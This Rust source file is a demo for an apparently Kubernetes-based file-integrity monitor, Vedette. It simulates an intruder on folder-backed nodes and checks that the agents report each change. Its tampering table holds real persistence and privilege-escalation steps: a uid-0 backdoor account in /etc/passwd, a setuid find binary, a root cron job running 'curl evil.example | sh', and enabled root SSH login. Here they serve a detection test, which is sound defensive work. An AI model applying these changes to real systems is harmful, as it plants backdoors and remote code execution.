//! The demo: a rule is applied, three nodes are watched, files are tampered with, and what was tampered with is reported.
//!
//! Everything is real but the nodes' hosts, which are folders. What is printed is what the cluster says; the demo itself
//! knows only what it did, and says at the end whether all of it was reported.
mod show;

use std::time::Duration;

use kube::api::{Api, DynamicObject, PostParams};
use serde_json::{Value, json};
use tokio::time::Instant;
use vedette_crds::{presets::presets, rule::DataCollectionRule};

use crate::{
    Agent, Cluster, Operator, Result, ScratchHost,
    error::{Doing as _, Error},
    eventually, not_yet,
};

const PRESET: &str = "linux-baseline";
const INTERVAL: &str = "10s";
const NODES: [&str; 3] = ["node-1", "node-2", "node-3"];
/// An interval, the time between two status writes, and a machine that is busy with other things.
const SOON: Duration = Duration::from_secs(90);

/// What is done to one node: which, what, and the record that must come of it.
struct Tampering {
    node: usize,
    say: &'static str,
    act: fn(&ScratchHost) -> Result<()>,
    path: &'static str,
    change: &'static str,
}

const TAMPERINGS: [Tampering; 6] = [
    Tampering {
        node: 0,
        say: "adds a second root to /etc/passwd",
        act: |host| host.append("/etc/passwd", "toor:x:0:0::/root:/bin/sh\n"),
        path: "/etc/passwd",
        change: "Modified",
    },
    Tampering {
        node: 0,
        say: "makes /usr/bin/find setuid root",
        act: |host| host.chmod("/usr/bin/find", 0o4755),
        path: "/usr/bin/find",
        change: "Modified",
    },
    Tampering {
        node: 1,
        say: "plants a cron job",
        act: |host| host.write("/etc/cron.d/update", "* * * * * root curl evil.example | sh\n"),
        path: "/etc/cron.d/update",
        change: "Added",
    },
    Tampering {
        node: 1,
        say: "lets root log in by ssh",
        act: |host| host.write("/etc/ssh/sshd_config", "PermitRootLogin yes\n"),
        path: "/etc/ssh/sshd_config",
        change: "Modified",
    },
    Tampering {
        node: 2,
        say: "points /usr/bin/editor somewhere else",
        act: |host| host.link("/usr/bin/editor", "/tmp/.x/vim"),
        path: "/usr/bin/editor",
        change: "Modified",
    },
    Tampering {
        node: 2,
        say: "removes the backup's cron job",
        act: |host| host.remove("/etc/cron.d/backup"),
        path: "/etc/cron.d/backup",
        change: "Removed",
    },
];

/// Tells the whole story; true when everything that was done was reported. With `keep` it stays until it is interrupted.
///
/// # Errors
/// When something does not start, or does not come to the state that the story needs.
pub async fn tell(keep: bool) -> Result<bool> {
    let began = Instant::now();
    show::step("A control plane: etcd and kube-apiserver on loopback, with Vedette's CRDs, RBAC and admission policy");
    let cluster = Cluster::start().await?;
    show::step("The operator, and an agent on each of three nodes (their hosts are folders)");
    let operator = cluster.start_operator().await?;
    let mut agents = Vec::new();
    let mut hosts = Vec::new();
    for node in NODES {
        cluster.add_node(node, &[("node-role.kubernetes.io/worker", "")]).await?;
        let host = ScratchHost::install(cluster.control_plane().folder(format!("hosts/{node}"))?)?;
        agents.push(cluster.start_agent(node, host.root()).await?);
        hosts.push(host);
    }
    show::step(&format!("The rule: preset {PRESET}, compared every {INTERVAL}"));
    apply_rule(&cluster).await?;
    let rules = rules(&cluster);
    let rule = eventually("the rule is ready on all nodes", SOON, async || {
        let rule = rules.get(PRESET).await?;
        let ready = show::condition(&rule.data, "Ready") == "True";
        let all = rule.data["status"]["nodes"]["ready"] == json!(NODES.len());
        if ready && all { Ok(rule) } else { Err(not_yet(&rule.data["status"])) }
    })
    .await?;
    show::rule(&rule);
    show::node_configs(&cluster.node_configs(), &NODES).await?;

    show::step("An intruder");
    for tampering in &TAMPERINGS {
        show::line(&format!("{}: {}", NODES[tampering.node], tampering.say));
        (tampering.act)(&hosts[tampering.node])?;
    }
    show::step("The records, as the agents write them");
    let reported = follow(&agents).await?;
    show::step("The same in the cluster: NodeConfigs, the rule, and metrics");
    let rule = counted(&cluster, &operator).await?;
    show::node_configs(&cluster.node_configs(), &NODES).await?;
    show::recent(&cluster.node_configs(), &NODES).await?;
    show::rule(&rule);
    show::metrics(&agents).await?;

    let missing: Vec<&str> =
        TAMPERINGS.iter().zip(&reported).filter(|(_, reported)| !**reported).map(|(done, _)| done.say).collect();
    show::step("Summary");
    show::line(&format!(
        "{} of {} changes reported, with what it was and what it is, {:.0} s after the start",
        TAMPERINGS.len() - missing.len(),
        TAMPERINGS.len(),
        began.elapsed().as_secs_f64()
    ));
    for missing in &missing {
        show::line(&format!("NOT reported: {missing}"));
    }
    if keep {
        stay(&cluster, &hosts).await?;
    }
    Ok(missing.is_empty())
}

fn rules(cluster: &Cluster) -> Api<DynamicObject> {
    Api::all_with(cluster.client(), &kube::api::ApiResource::erase::<DataCollectionRule>(&()))
}

async fn apply_rule(cluster: &Cluster) -> Result<()> {
    let preset = presets().into_iter().find(|preset| preset.name == PRESET);
    let yaml = preset.ok_or_else(|| Error::Unexpected(format!("no preset {PRESET}")))?.yaml;
    let mut rule: DynamicObject =
        serde_saphyr::from_str(yaml).map_err(|error| Error::Unexpected(format!("the preset {PRESET}: {error}")))?;
    rule.data["spec"]["files"]["interval"] = json!(INTERVAL);
    rules(cluster).create(&PostParams::default(), &rule).await.doing(|| format!("create rule {PRESET}"))?;
    Ok(())
}

/// Prints records as they come, until all that was done is there.
async fn follow(agents: &[Agent]) -> Result<Vec<bool>> {
    let mut reported = vec![false; TAMPERINGS.len()];
    let mut shown = vec![0; agents.len()];
    let all = eventually("all that was done is reported", SOON, async || {
        for (agent, shown) in agents.iter().zip(&mut shown) {
            for change in agent.changes()?.iter().skip(*shown) {
                *shown += 1;
                show::change(change);
                mark(&mut reported, agent.node(), change);
            }
        }
        if reported.iter().all(|reported| *reported) { Ok(()) } else { Err(not_yet(format!("{reported:?}"))) }
    })
    .await;
    match all {
        Ok(()) | Err(Error::Expired { .. }) => Ok(reported),
        Err(error) => Err(error),
    }
}

fn mark(reported: &mut [bool], node: &str, change: &Value) {
    for (tampering, reported) in TAMPERINGS.iter().zip(reported) {
        let same = NODES[tampering.node] == node && change["path"] == tampering.path;
        *reported |= same && change["changeType"] == tampering.change;
    }
}

/// The rule, once its status counts what was done.
async fn counted(cluster: &Cluster, operator: &Operator) -> Result<DynamicObject> {
    let rules = rules(cluster);
    let counted = eventually("the rule's status counts the changes", SOON, async || {
        let rule = rules.get(PRESET).await?;
        let counts = &rule.data["status"]["changes"];
        let sum: u64 = ["added", "modified", "removed"].iter().filter_map(|kind| counts[kind].as_u64()).sum();
        if sum >= TAMPERINGS.len() as u64 { Ok(rule) } else { Err(not_yet(counts)) }
    });
    counted.await.map_err(|error| match operator.log() {
        Ok(log) => Error::Unexpected(format!("{error}\nthe operator's log:\n{log}")),
        Err(_) => error,
    })
}

async fn stay(cluster: &Cluster, hosts: &[ScratchHost]) -> Result<()> {
    let kubeconfig = cluster.control_plane().folder("")?.join("demo.kubeconfig");
    cluster.control_plane().admin().write_kubeconfig(&kubeconfig)?;
    show::step("It stays up until you press Ctrl-C");
    show::line(&format!("export KUBECONFIG={}", kubeconfig.display()));
    show::line("kubectl get datacollectionrules,nodeconfigs");
    for (node, host) in NODES.iter().zip(hosts) {
        show::line(&format!("{node}'s host: {}", host.root().display()));
    }
    tokio::signal::ctrl_c().await.doing(|| "wait for Ctrl-C".to_owned())?;
    Ok(())
}
